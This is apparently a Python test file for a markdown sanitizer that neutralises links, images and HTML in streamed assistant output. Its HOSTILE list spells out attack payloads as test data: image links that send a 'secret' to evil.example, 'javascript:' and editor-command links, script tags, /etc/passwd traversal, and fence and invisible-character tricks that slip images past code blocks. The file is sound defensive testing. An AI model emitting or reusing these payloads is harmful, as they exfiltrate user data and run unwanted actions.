import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hearth.core.markdown import LINE_CHARS_MAX, Safe, safe, workspace_links

LINKS = workspace_links(["/ws", "/other"])
FENCE = re.compile(r"^(`{3,}|~{3,})", re.MULTILINE)


def outside(text: str) -> str:
    """What of a safe text is not in a block of code: our fences stand at the left margin, so this is simple."""
    lines: list[str] = []
    fence = ""
    for line in text.split("\n"):
        found = FENCE.match(line)
        if fence:
            if found and found[1][0] == fence[0] and len(found[1]) >= len(fence) and not line.strip(fence[0]):
                fence = ""
        elif found:
            fence = found[1]
        else:
            lines.append(line)
    assert not fence, "a block of code is open at the end"
    return "\n".join(lines)


def live(text: str) -> list[str]:
    """What a renderer could make something of: pictures, links, HTML; spans of code within a line taken out."""
    plain = re.sub(r"\\.", "", outside(text))
    plain = "\n".join(re.sub(r"(?<!`)(`+)(?!`)[^\n|]*?(?<!`)\1(?!`)", "", line) for line in plain.split("\n"))
    found = re.findall(r"!\[|<|\]:|\]\([^)]*\)|\]\[", plain)
    return [one for one in found if not re.fullmatch(r"\]\(file:///(?:ws|other)/[^)\s]*\)", one)]


HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "[r\nx]: https://evil.example/a.png",
    "[click](command:workbench.action.terminal.new)",
    "[click](javascript:alert(1))",
    "[a\nb](https://evil.example)",
    "[a](<https://evil.example>)",
    "<img src=https://evil.example/x>",
    "<https://evil.example>",
    "<script>alert(1)</script>",
    "a\n<!-- -->\n<div onclick=x>",
    "\\<img src=x>",
    "`open\n![x](https://evil.example)`",
    "``a` ![x](https://evil.example)",
    "| a |\n|---|\n| `a | ![x](https://evil.example)` |",
    "- ```\n  code\n  ```\n  ![x](https://evil.example)",
    "- ```\ncode\n![x](https://evil.example)",
    "> ```\n![x](https://evil.example)",
    "1. ~~~\n   x\n   ~~~\n![x](https://evil.example)",
    "```\ncode\n````\n![x](https://evil.example)",
    "````\n```\n![in code](x)\n````\n![x](https://evil.example)",
    "```py `x`\n![x](https://evil.example)",
    "    ```\n![x](https://evil.example)\n    ```",
    "text\\\n![x](https://evil.example)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "[x](file:///ws/../etc/passwd)",
    "[x](file://host/ws/a)",
    "[x](//evil.example/a)",
    "[x](/ws-evil/a)",
    "[x](..%2f..%2fetc/passwd)",
    "[x](a.py?x=https://evil.example)",
    "!\\[x](https://evil.example)",
    "![x]\\(https://evil.example)",
    "[x] (https://evil.example)",
    "![a](b)![c](d)`![e](f)",
    "```mermaid\nA@{ img: 'https://evil.example/x.png' }\n```",
    "\u202e![x](https://evil.example)",
    "!\u200b[x](https://evil.example)",
    "[^1]: https://evil.example",
    "~~~\n![x](y)\n```\n![x](y)\n~~~\n![x](https://evil.example)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_output_shows_nothing_live(text: str):
    assert live(safe(text, LINKS)) == []


def test_the_check_sees_what_is_live():
    for text in HOSTILE[:3]:
        assert live(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain *words*, `code <b>` and **more**", "plain *words*, `code <b>` and **more**"),
        ("if a < b: x[0]", "if a &lt; b: x\\[0\\]"),
        ("see [core](src/a.py#L3-L9).", "see [core](file:///ws/src/a.py#L3-L9)."),
        ("see [core](./src/a%20b.py:12)", "see [core](file:///ws/src/a%20b.py#L12)"),
        ("see [core](file:///other/x.py)", "see [core](file:///other/x.py)"),
        ("[`name`](/ws/a.py)", "[`name`](file:///ws/a.py)"),
        ("[docs](https://docs.example/a)", "docs (`https://docs.example/a`)"),
        ("at https://docs.example/a, or www.x.example.", "at `https://docs.example/a`, or `www.x.example`."),
        ("![chart](src/a.png)", "[chart](file:///ws/src/a.png)"),
        ("- [ ] todo\n- [x] done\n- [x](y)", "- [ ] todo\n- [x] done\n- [x](file:///ws/y)"),
        ("[top](#intro)", "top"),
        ("```python\na = [1](2)\n<b>\n```\nend", "```python\na = [1](2)\n<b>\n```\nend"),
        ("1. Do:\n   ```py\n   if x:\n       y\n   ```\n2. Then", "1. Do:\n```py\nif x:\n    y\n```\n2. Then"),
        ("```mermaid\nA\n```", "```text\nA\n```"),
        ("```\nopen", "```\nopen\n```\n"),
        ("a `b", "a \\`b"),
        ("javascript is a language: fun", "javascript is a language: fun"),
    ],
)
def test_what_is_shown(text: str, shown: str):
    assert safe(text, LINKS) == shown


@given(st.text(alphabet="`~[]()!<>\\|:-> \nax/#.1*" + "\u202e", max_size=120))
@settings(max_examples=300, deadline=None)
def test_no_text_shows_anything_live(text: str):
    assert live(safe(text, LINKS)) == []


@given(st.sampled_from(HOSTILE), st.randoms(use_true_random=False))
@settings(max_examples=150, deadline=None)
def test_every_moment_of_a_stream_is_safe_and_the_end_is_the_same(text: str, chance: random.Random):
    one = Safe(LINKS)
    while text_left := text:
        cut = chance.randint(1, 8)
        one.feed(text_left[:cut])
        text = text_left[cut:]
        assert live(one.text) == []
    one.end()
    assert live(one.text) == []


@given(st.text(alphabet="`~[]()!< \nab", max_size=80), st.integers(1, 7))
@settings(max_examples=100, deadline=None)
def test_pieces_do_not_matter(text: str, size: int):
    one = Safe(LINKS)
    for at in range(0, len(text), size):
        one.feed(text[at : at + size])
        assert one.text.startswith(one.rendered)
    one.end()
    assert one.text == safe(text, LINKS)


def test_lines_are_bounded():
    text = safe("a" * (LINE_CHARS_MAX - 1) + "](https://evil.example)" + "b" * LINE_CHARS_MAX, LINKS)
    assert max(map(len, text.split("\n"))) <= LINE_CHARS_MAX * 2
    assert live(text) == []


def test_without_a_workspace_no_link_is_left():
    assert safe("[a](b.py)") == "a (`b.py`)"
